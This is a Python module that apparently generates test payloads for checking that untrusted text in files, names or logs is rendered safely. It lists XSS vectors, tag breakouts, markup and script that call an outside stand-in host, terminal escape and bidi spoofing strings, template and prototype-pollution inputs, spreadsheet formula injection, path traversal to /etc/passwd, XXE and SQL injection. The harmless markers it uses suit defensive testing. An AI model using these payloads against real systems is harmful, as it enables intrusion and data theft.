"""What somebody who means harm would write into a file, a name or a log.

Each text tries one of these: to run a script (``__hit``, a dialog), to ask a server elsewhere for something,
to put an element of its own (``data-evil``) into the page, or to deceive the eye.
"""

from __future__ import annotations

FAR = "far.invalid"
_HIT = "try{top.__hit=1}catch(e){};window.__hit=1;alert(1)"
_MARK = "data-evil=1 class=evil"

_EVENTS = {
    "img src=x": ("onerror", "onmouseover"),
    "svg": ("onload", "onfocusin"),
    "body": ("onload", "onpageshow", "onhashchange", "onresize"),
    "video src=x": ("onerror", "onloadstart"),
    "video": ("oncanplay",),
    "audio src=x": ("onerror", "onloadstart"),
    "details open": ("ontoggle",),
    "input autofocus": ("onfocus", "onblur"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "button autofocus": ("onfocus", "onclick"),
    "a tabindex=1 autofocus href=#": ("onfocus", "onclick"),
    "div contenteditable autofocus": ("onfocus", "onbeforeinput"),
    "div style=animation:x": ("onanimationstart", "onanimationend"),
    "div style=transition:all": ("ontransitionrun",),
    "div popover id=evil": ("onbeforetoggle", "ontoggle"),
    "div draggable=true": (
        "ondragstart",
        "onpointerenter",
        "onpointerrawupdate",
        "onauxclick",
        "onwheel",
        "oncut",
        "oncopy",
        "onpaste",
    ),
    "iframe": ("onload",),
    "iframe src=x": ("onload",),
    "object data=x": ("onerror", "onload"),
    "embed src=x": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload",),
    "script src=x": ("onerror",),
    "marquee": ("onstart", "onfinish"),
    "form": ("onsubmit", "onformdata"),
    "input type=image src=x": ("onerror",),
    "track src=x": ("onerror",),
    "source src=x": ("onerror",),
    "math": ("onload", "onpointerover"),
    "table background=x": ("onload",),
    "p": ("oncontentvisibilityautostatechange",),
}

_SCHEMES = (
    "javascript:{hit}",
    "JaVaScRiPt:{hit}",
    "java\nscript:{hit}",
    "java&#9;script:{hit}",
    "&#106;avascript:{hit}",
    "\x01javascript:{hit}",
    "data:text/html,<script>{hit}</script>",
)

_CARRIERS = (
    '<a {mark} href="{url}">x</a>',
    '<iframe {mark} src="{url}"></iframe>',
    '<form {mark} action="{url}"><button>x</button></form>',
    '<button {mark} formaction="{url}">x</button>',
    '<object {mark} data="{url}"></object>',
    '<embed {mark} src="{url}">',
    '<base {mark} href="{url}">',
    '<svg {mark}><a xlink:href="{url}"><text y=20>x</text></a></svg>',
    '<svg {mark}><animate attributeName=href values="{url}" /></svg>',
    '<meta {mark} http-equiv=refresh content="0;url={url}">',
    "[x]({url})",
    "![x]({url})",
    "<{url}>",
)

_REQUESTS = (
    '<img {mark} src="{far}">',
    '<img {mark} srcset="{far} 1x">',
    '<picture {mark}><source srcset="{far}"><img></picture>',
    '<link {mark} rel=stylesheet href="{far}">',
    '<link {mark} rel=prefetch href="{far}">',
    '<link {mark} rel=preload as=image href="{far}">',
    '<link {mark} rel=modulepreload href="{far}">',
    '<link {mark} rel=icon href="{far}">',
    '<link {mark} rel=preconnect href="{far}">',
    '<link {mark} rel=manifest href="{far}">',
    '<script {mark} src="{far}"></script>',
    '<script {mark} type=module src="{far}"></script>',
    '<script {mark} type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{far}"]}}]}}</script>',
    '<iframe {mark} src="{far}"></iframe>',
    "<iframe {mark} srcdoc=\"<img src='{far}'>\"></iframe>",
    '<frameset {mark}><frame src="{far}"></frameset>',
    '<object {mark} data="{far}"></object>',
    '<embed {mark} src="{far}">',
    '<video {mark} autoplay src="{far}"></video>',
    '<video {mark} poster="{far}"></video>',
    '<audio {mark} autoplay src="{far}"></audio>',
    '<audio {mark}><source src="{far}"></audio>',
    '<video {mark} controls><track default src="{far}"></video>',
    '<body {mark} background="{far}">',
    '<table {mark} background="{far}"><tr><td>x</table>',
    '<input {mark} type=image src="{far}">',
    "<div {mark} style=\"background:url('{far}')\">x</div>",
    "<div {mark} style=\"list-style-image:url('{far}');display:list-item\">x</div>",
    "<div {mark} style=\"cursor:url('{far}'),auto;border-image:url('{far}')\">x</div>",
    "<div {mark} style=\"background:image-set('{far}' 1x)\">x</div>",
    '<style {mark}>@import "{far}";</style>',
    '<style {mark}>body{{background:url("{far}")}}</style>',
    '<style {mark}>@font-face{{font-family:x;src:url("{far}")}}*{{font-family:x}}</style>',
    '<svg {mark}><image href="{far}" width=9 height=9 /></svg>',
    '<svg {mark}><use href="{far}#x" /></svg>',
    '<svg {mark}><filter id=f><feImage href="{far}" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    '<meta {mark} http-equiv=refresh content="0;url={far}">',
    "<meta {mark} http-equiv=refresh content=\"0; URL='{far}'\">",
    '<form {mark} id=f action="{far}"><input name=a autofocus></form>',
    '<a {mark} ping="{far}" href="#">x</a>',
    '<base {mark} href="{far}"><img src=a.png>',
    '<math {mark}><mtext><img src="{far}"></mtext></math>',
    "![x]({far})",
    "![x][far]\n\n[far]: {far}",
    '<?xml-stylesheet href="{far}" type="text/css"?>',
    '<!DOCTYPE x [<!ENTITY far SYSTEM "{far}">]><x>&far;</x>',
)

_SCRIPTS = (
    "fetch('{far}')",
    "new Image().src='{far}'",
    "navigator.sendBeacon('{far}')",
    "new WebSocket('{far}'.replace('http','ws'))",
    "new EventSource('{far}')",
    "(x=>(x.open('GET','{far}'),x.send()))(new XMLHttpRequest())",
    "import('{far}')",
    "new Worker('{far}')",
    "location='{far}'",
    "top.location='{far}'",
    "parent.location='{far}'",
    "open('{far}')",
    "document.write('<img src={far}>')",
    "document.body.append(Object.assign(document.createElement('iframe'),{{src:'{far}'}}))",
    "parent.document.body.innerHTML='<b data-evil=1>x</b>'",
    "top.postMessage({{toolrunner:'failed',text:'<b data-evil=1>x</b>'}},'*')",
    "localStorage.evil=1",
    "document.cookie='evil=1'",
    "setTimeout('{hit}')",
    "Function('{hit}')()",
    "prompt(1)",
    "print()",
    "onbeforeunload=()=>1",
)

_ENDS = (
    "</script><script>{hit}</script>",
    "</title><script>{hit}</script>",
    "</textarea><script>{hit}</script>",
    "</style><script>{hit}</script>",
    "--><script>{hit}</script>",
    "]]><script>{hit}</script>",
    "'\"><script>{hit}</script>",
    "&quot;&gt;&lt;script&gt;{hit}&lt;/script&gt;",
    "</iframe><script>{hit}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror='{hit}'>\">",
    "<svg><style><img src=x onerror='{hit}'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror='{hit}'>",
    "<template><script>{hit}</script></template>",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<ScRiPt>{hit}</sCrIpT>",
    "<script\x0c>{hit}</script>",
    "<script/x>{hit}</script>",
    "\x00<script>{hit}</script>",
    "<div onclick={hit}//<",
    "```html\n<script>{hit}</script>\n```",
    "$\\href{{javascript:{hit}}}{{x}}$",
    "$$\\require{{html}}\\href{{javascript:{hit}}}{{x}}$$",
)

_DECEIT = (
    "\u202egnp.exe",
    "\u2066\u202ecod\u2069.exe",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u2067right\u2069",
    "e\u0301" + "\u0336" * 40,
    "Z" + "\u0300\u0489" * 60,
    "\u0430dmin",
    "\U000e0041\U000e0042",
    "\ud7ff\ue000",
    "\u2028line\u2029paragraph",
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b]8;;http://far.invalid/osc\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[38;2;1;2;3;4;5m<b data-evil=1>x</b>",
    "\x1bP$q\x1b\\",
    "\x9b31mx",
    "\x1b[1;1'onmouseover=alert(1)//m",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{% import os %}",
    "%1 %2 %s %d",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    '{"__proto__":{"__hit":1}}',
    '{"constructor":{"prototype":{"__hit":1}}}',
    '{"$schema":"http://far.invalid/schema"}',
    '{"toJSON":1,"then":1,"length":-1}',
    '=HYPERLINK("http://far.invalid/cell";"x")',
    "=cmd|'/c calc'!A1",
    "@SUM(1)",
    "../../../etc/passwd",
    "..\\..\\x",
    "CON.txt",
    " ",
    "." * 80,
    "x" * 200,
    "'; DROP TABLE runs; --",
)


def payloads(far: str) -> list[str]:
    """Each text once; ``far`` is the host and port of the server that must not be asked."""
    marked = [
        f'<{element} {_MARK} {event}="{_HIT}">' for element, events in _EVENTS.items() for event in events
    ]
    carried = [
        carrier.format(mark=_MARK, url=scheme.format(hit=_HIT))
        for scheme in _SCHEMES
        for carrier in _CARRIERS
    ]
    asking = [
        request.format(mark=_MARK, far=f"{start}{far}/request/{number}")
        for number, request in enumerate(_REQUESTS)
        for start in ("http://", "//")
    ]
    scripts = [
        f"<script {_MARK}>{script.format(far=f'http://{far}/script/{number}', hit='window.__hit=1')}</script>"
        for number, script in enumerate(_SCRIPTS)
    ]
    ends = [end.format(hit=_HIT) for end in _ENDS]
    deceit = [text.replace(FAR, far) for text in _DECEIT]
    return list(dict.fromkeys([*marked, *carried, *asking, *scripts, *ends, *deceit]))
